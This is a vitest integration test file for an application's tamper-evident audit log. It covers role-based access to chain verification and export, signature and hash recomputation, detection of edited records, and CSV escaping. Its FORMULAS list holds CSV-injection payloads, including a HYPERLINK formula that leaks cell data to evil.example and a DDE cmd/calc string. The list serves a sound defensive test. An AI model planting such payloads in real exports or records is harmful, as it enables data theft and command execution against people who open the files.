import { sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { verifyEd25519 } from "../../src/lib/crypto/index.js";
import { systemContext } from "../../src/lib/request-context.js";
import { AuditAction } from "../../src/modules/audit/index.js";
import { anchorMessage, GENESIS, linkHash, type ChainRecord } from "../../src/modules/audit/chain-hash.js";
import { startTestApp, type TestApp } from "../helpers/app.js";
import { query, tamper } from "../helpers/audit-chain.js";
import { newOrg, orgWithRoles } from "../factories/orgs.js";
import { newSuperadmin, newUser, type TestUser } from "../factories/users.js";

/** Who may verify and export the audit chain, through both doors, and what an export contains. */
let app: TestApp;
let p: { orgId: string; owner: TestUser; admin: TestUser; member: TestUser; outsider: TestUser; otherAdmin: TestUser; superadmin: TestUser };

beforeAll(async () => {
  app = await startTestApp({ RATE_LIMIT_ENABLED: "false" });
  const { org, owner, admin, member } = await orgWithRoles(app);
  const otherAdmin = await newUser(app);
  await newOrg(app, otherAdmin);
  p = { orgId: org.id, owner, admin, member, outsider: await newUser(app), otherAdmin, superadmin: await newSuperadmin(app) };
  // A metadata value that needs CSV quoting.
  await app.services.audit.record(app.container.db, { ...systemContext("csv"), userAgent: 'quoted, "with" commas\nand a line' }, AuditAction.userLogin, { organizationId: org.id });
  // Callers' own text that a spreadsheet would run as a formula (OWASP CSV injection).
  for (const userAgent of FORMULAS) await app.services.audit.record(app.container.db, { ...systemContext(`formula-${FORMULAS.indexOf(userAgent)}`), userAgent }, AuditAction.userLogin, { organizationId: org.id, metadata: { note: userAgent } });
  await app.services.auditChain.chainAll();
});
afterAll(() => app?.close());

const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tstarts with a tab", "\rstarts with a return", "'=already quoted", "plain text"];

/** RFC 4180: rows of cells (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") row.push(cell), (cell = "");
    else if (c === "\r" && text[i + 1] === "\n") row.push(cell), rows.push(row), (row = []), (cell = ""), i++;
    else cell += c;
  }
  return rows;
}

const VERIFY = "/api/v1/admin/audit/verify";
const GQL_VERIFY = "{ auditChainVerification { ok unchained organizationsChecked global { chain ok headSeq records } firstBreak { kind } } }";
type Line = Record<string, unknown>;
const jsonLines = (text: string): Line[] => text.trim().split("\n").map((l) => JSON.parse(l) as Line);

/** Recomputes an export's chain and checks its head's signature, as an outside auditor would. */
function checkExport(lines: Line[], chain: string): number {
  const head = lines.find((l) => l.type === "head")!;
  expect(verifyEd25519(head.public_key as string, anchorMessage({ kind: "head", chain, seq: head.seq as number, hash: head.hash as string, signedAt: new Date(head.created_at as string) }), head.signature as string)).toBe(true);
  let prev = { seq: 0, hash: GENESIS };
  for (const l of lines.filter((x) => x.type === "record")) {
    const record: ChainRecord = {
      id: l.id as string, createdAt: new Date(l.created_at as string), action: l.action as string, actorId: l.actor_id as string | null, userId: l.user_id as string | null,
      organizationId: l.organization_id as string | null, resourceType: l.resource_type as string | null, resourceId: l.resource_id as string | null, success: l.success as boolean,
      ipAddress: l.ip_address as string | null, userAgent: l.user_agent as string | null, requestId: l.request_id as string | null, metadata: l.metadata as Record<string, unknown>, errorMessage: l.error_message as string | null,
    };
    expect(l).toMatchObject({ seq: prev.seq + 1, prev_hash: prev.hash, hash: linkHash(chain, prev.seq + 1, prev.hash, record) });
    prev = { seq: l.seq as number, hash: l.hash as string };
  }
  expect(prev).toEqual({ seq: head.seq, hash: head.hash });
  return prev.seq;
}

describe("verification (superadmins only)", () => {
  it("refuses anonymous callers, plain users, organization owners and admins on REST and GraphQL", async () => {
    expect((await app.http.get(VERIFY)).status).toBe(401);
    for (const who of [p.outsider, p.member, p.admin, p.owner, p.otherAdmin]) {
      const res = await app.http.get(VERIFY, { token: who.token });
      expect([res.status, res.body.error.type]).toEqual([403, "AUTHORIZATION_ERROR"]);
      const gql = await app.http.gql(GQL_VERIFY, {}, { token: who.token });
      expect(gql.errors?.[0]?.extensions?.code).toBe("AUTHORIZATION_ERROR");
    }
    expect((await app.http.gql(GQL_VERIFY)).errors?.[0]?.extensions?.code).toBe("AUTH_REQUIRED");
  });

  it("answers a superadmin with the same report on both doors, and audits each verification", async () => {
    const rest = await app.http.get(VERIFY, { token: p.superadmin.token });
    expect(rest.status).toBe(200);
    expect(rest.body.data.verification).toMatchObject({ ok: true, first_break: null, organizations_checked: 2, global: { chain: "global", ok: true } });
    const gql = await app.http.gql(GQL_VERIFY, {}, { token: p.superadmin.token });
    expect(gql.data.auditChainVerification).toMatchObject({ ok: true, firstBreak: null, organizationsChecked: 2, global: { chain: "global", ok: true } });
    const rows = await query<{ actor_id: string; success: boolean }>(app, sql`select actor_id, success from audit_logs where action = 'audit.chain.verified'`);
    expect(rows.filter((r) => r.actor_id === p.superadmin.id)).toHaveLength(2);
  });
});

describe("export", () => {
  it("streams the global chain as JSON lines an outside auditor can recompute and whose head signature checks", async () => {
    const res = await app.http.get("/api/v1/admin/audit/export?format=jsonl", { token: p.superadmin.token });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^application\/x-ndjson/);
    expect(res.headers.get("content-disposition")).toMatch(/attachment; filename="audit-global-.*\.jsonl"/);
    const lines = jsonLines(res.text);
    expect(lines[0]).toMatchObject({ type: "head", chain: "global", key_id: expect.stringMatching(/^ed25519-/), public_key: expect.stringContaining("BEGIN PUBLIC KEY") });
    expect(checkExport(lines, "global")).toBeGreaterThan(5);
  });

  it("writes CSV with the chain fields, quoting what needs quoting", async () => {
    const res = await app.http.get("/api/v1/admin/audit/export?format=csv", { token: p.superadmin.token });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
    const [header, head, ...records] = res.text.split("\r\n").filter(Boolean);
    expect(header).toBe("type,chain,seq,prev_hash,hash,id,created_at,action,actor_id,user_id,organization_id,resource_type,resource_id,success,ip_address,user_agent,request_id,metadata,error_message,key_id,signature,public_key");
    expect(head).toMatch(/^head,global,\d+,,[0-9a-f]{64},/);
    expect(records[0]).toMatch(new RegExp(`^record,global,1,${GENESIS},[0-9a-f]{64},`));
    expect(res.text).toContain('""with"" commas');
  });

  it("neutralises cells a spreadsheet would run as formulas, and keeps them exact: strip one leading apostrophe", async () => {
    const csv = await app.http.get(`/api/v1/organizations/${p.orgId}/audit/export?format=csv`, { token: p.admin.token });
    const [header, ...rows] = parseCsv(csv.text);
    const col = (name: string) => header!.indexOf(name);
    const byRequest = new Map(rows.map((r) => [r[col("request_id")], r]));
    const jsonl = jsonLines((await app.http.get(`/api/v1/organizations/${p.orgId}/audit/export?format=jsonl`, { token: p.admin.token })).text);
    for (const [i, original] of FORMULAS.entries()) {
      const row = byRequest.get(`formula-${i}`)!;
      const agent = row[col("user_agent")]!;
      if (original === "plain text") expect(agent).toBe(original);
      else {
        // Opens as text in a spreadsheet, and the value comes back by removing the apostrophe.
        expect(agent, JSON.stringify(original)).toBe(`'${original}`);
        expect(agent.slice(1)).toBe(original);
      }
      // Every cell of the CSV, not only user_agent: no cell starts a formula.
      for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
      // JSON lines keep the value as recorded, and both name the same link of the chain.
      const line = jsonl.find((l) => l.request_id === `formula-${i}`)!;
      expect(line.user_agent).toBe(original);
      expect(row[col("hash")]).toBe(line.hash);
    }
    expect(checkExport(jsonl, p.orgId)).toBeGreaterThan(FORMULAS.length);
  });

  it("lets an organization's admins export their own organization's chain, and no one else's", async () => {
    const path = `/api/v1/organizations/${p.orgId}/audit/export`;
    const own = await app.http.get(path, { token: p.admin.token });
    expect(own.status).toBe(200);
    const lines = jsonLines(own.text);
    expect(lines.filter((l) => l.type === "record").every((l) => l.organization_id === p.orgId && l.chain === p.orgId)).toBe(true);
    expect(checkExport(lines, p.orgId)).toBeGreaterThan(2);
    expect((await app.http.get(path, { token: p.member.token })).body.error.type).toBe("AUTHORIZATION_ERROR");
    expect((await app.http.get(path, { token: p.otherAdmin.token })).body.error.type).toBe("ORG_NOT_FOUND");
    // The global chain (every organization's records) stays with superadmins, as does any other organization's.
    const global = await app.http.get("/api/v1/admin/audit/export", { token: p.admin.token });
    expect([global.status, global.body.error.type]).toEqual([403, "AUTHORIZATION_ERROR"]);
    const bySuperadmin = await app.http.get(`/api/v1/admin/audit/export?organization_id=${p.orgId}`, { token: p.superadmin.token });
    expect(jsonLines(bySuperadmin.text)[0]).toMatchObject({ type: "head", chain: p.orgId });
  });

  it("audits every export, in the exported organization's activity when it is one", async () => {
    const rows = await query<{ actor_id: string; organization_id: string | null; metadata: { format: string } }>(app, sql`select actor_id, organization_id, metadata from audit_logs where action = 'audit.chain.exported'`);
    expect(rows).toEqual(expect.arrayContaining([
      expect.objectContaining({ actor_id: p.admin.id, organization_id: p.orgId }),
      expect.objectContaining({ actor_id: p.superadmin.id, organization_id: null, metadata: expect.objectContaining({ format: "csv" }) }),
    ]));
  });

  it("refuses an unknown format", async () => {
    const res = await app.http.get("/api/v1/admin/audit/export?format=xml", { token: p.superadmin.token });
    expect([res.status, res.body.error.type]).toEqual([400, "VALIDATION_ERROR"]);
  });
});

describe("an organization's admins verify their own chain", () => {
  const LAST = "query ($orgId: ID!) { organizationAuditChainCheck(orgId: $orgId) { chain ok records checkedAt break { kind seq } } }";
  const RUN = "mutation ($orgId: ID!) { verifyOrganizationAuditChain(orgId: $orgId) { chain ok records headSeq break { kind seq recordId } } }";
  const path = () => `/api/v1/organizations/${p.orgId}/audit/verification`;

  it("refuses anyone but its owner and admins (and operators, who verify every chain), on both doors", async () => {
    expect((await app.http.post(path(), {})).status).toBe(401);
    expect((await app.http.gql(RUN, { orgId: p.orgId })).errors?.[0]?.extensions?.code).toBe("AUTH_REQUIRED");
    for (const [who, type] of [[p.member, "AUTHORIZATION_ERROR"], [p.otherAdmin, "ORG_NOT_FOUND"], [p.outsider, "ORG_NOT_FOUND"]] as const) {
      expect((await app.http.post(path(), {}, { token: who.token })).body.error.type).toBe(type);
      expect((await app.http.get(path(), { token: who.token })).body.error.type).toBe(type);
      expect((await app.http.gql(RUN, { orgId: p.orgId }, { token: who.token })).errors?.[0]?.extensions?.code).toBe(type);
      expect((await app.http.gql(LAST, { orgId: p.orgId }, { token: who.token })).errors?.[0]?.extensions?.code).toBe(type);
    }
    expect((await app.http.post("/api/v1/organizations/not-an-id/audit/verification", {}, { token: p.admin.token })).status).toBe(404);
  });

  it("verifies, keeps the outcome and audits it in the organization; twenty at once all agree", async () => {
    const rest = await app.http.post(path(), {}, { token: p.admin.token });
    expect(rest.status).toBe(200);
    expect(rest.body.data.check).toMatchObject({ chain: p.orgId, ok: true, break: null, from_seq: 0 });
    expect(rest.body.data.check.records).toBeGreaterThan(2);
    const runs = await Promise.all(Array.from({ length: 20 }, () => app.http.gql(RUN, { orgId: p.orgId }, { token: p.owner.token })));
    expect(new Set(runs.map((r) => JSON.stringify(r.data?.verifyOrganizationAuditChain)))).toEqual(new Set([JSON.stringify({ chain: p.orgId, ok: true, records: rest.body.data.check.records, headSeq: rest.body.data.check.head_seq, break: null })]));
    const last = await app.http.gql(LAST, { orgId: p.orgId }, { token: p.admin.token });
    expect(last.data.organizationAuditChainCheck).toMatchObject({ chain: p.orgId, ok: true, break: null });
    const rows = await query<{ actor_id: string; organization_id: string | null; success: boolean }>(app, sql`select actor_id, organization_id, success from audit_logs where action = 'audit.chain.verified' and organization_id = ${p.orgId}`);
    expect(rows).toHaveLength(21);
    expect(rows.every((r) => r.success)).toBe(true);
  });

  it("names a record edited afterwards, and an operator's verification updates what the admins see", async () => {
    const [edited] = await query<{ id: string; org_seq: string | number; action: string }>(app, sql`select id, org_seq, action from audit_logs where organization_id = ${p.orgId} and org_seq is not null order by org_seq limit 1`);
    await tamper(app, sql`update audit_logs set action = 'audit.chain.exported' where id = ${edited!.id}`);
    const run = await app.http.gql(RUN, { orgId: p.orgId }, { token: p.admin.token });
    expect(run.data.verifyOrganizationAuditChain).toMatchObject({ ok: false, break: { kind: "edited", seq: Number(edited!.org_seq), recordId: edited!.id } });
    const kept = await app.http.get(path(), { token: p.owner.token });
    expect(kept.body.data.check).toMatchObject({ ok: false, break: { kind: "edited", record_id: edited!.id } });
    expect((await query<{ success: boolean }>(app, sql`select success from audit_logs where action = 'audit.chain.verified' and organization_id = ${p.orgId} order by created_at desc limit 1`))[0]!.success).toBe(false);

    // Put back as it was: the operator's pass finds the chain intact, and that is what the admins now see.
    await tamper(app, sql`update audit_logs set action = ${edited!.action} where id = ${edited!.id}`);
    const before = (await app.http.gql(LAST, { orgId: p.orgId }, { token: p.admin.token })).data.organizationAuditChainCheck;
    expect(before.ok).toBe(false);
    expect((await app.http.get(VERIFY, { token: p.superadmin.token })).status).toBe(200);
    const after = (await app.http.gql(LAST, { orgId: p.orgId }, { token: p.admin.token })).data.organizationAuditChainCheck;
    expect(new Date(after.checkedAt).getTime()).toBeGreaterThanOrEqual(new Date(before.checkedAt).getTime());
    expect(after).toMatchObject({ chain: p.orgId, ok: true, break: null });
  });
});
